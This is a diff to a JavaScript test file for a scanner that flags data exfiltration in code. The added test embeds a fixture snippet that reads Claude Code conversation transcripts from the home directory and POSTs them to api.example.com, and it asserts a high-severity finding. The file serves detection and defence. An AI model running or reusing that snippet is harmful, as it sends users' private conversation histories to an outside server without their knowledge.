@@ -45,6 +45,11 @@ describe('correlation: exfiltration', () => {
     assert.equal(only('exfiltration', code)[0].severity, 'medium');
   });
 
+  it("flags another assistant's conversation transcripts sent to a server as high (happy-coder relays Claude Code's)", () => {
+    const code = 'const fs=require("fs"),os=require("os"),path=require("path");async function relay(f){const t=fs.readFileSync(path.join(os.homedir(),".claude","projects",f),"utf8");await fetch("https://api.example.com/sync",{method:"POST",body:t})}';
+    assert.deepEqual(only('exfiltration', code).map(f => `${f.severity} ${f.message}`), ['high Sends Claude Code conversation transcripts (~/.claude/projects) in a network request to api.example.com']);
+  });
+
   it('is low when the request goes to this machine (a local daemon, happy-coder, review 43)', () => {
     const code = 'const os=require("os");async function t(){const h=os.hostname();await fetch("http://127.0.0.1:8731/register",{method:"POST",body:JSON.stringify({h})})}';
     const [f] = only('exfiltration', code);
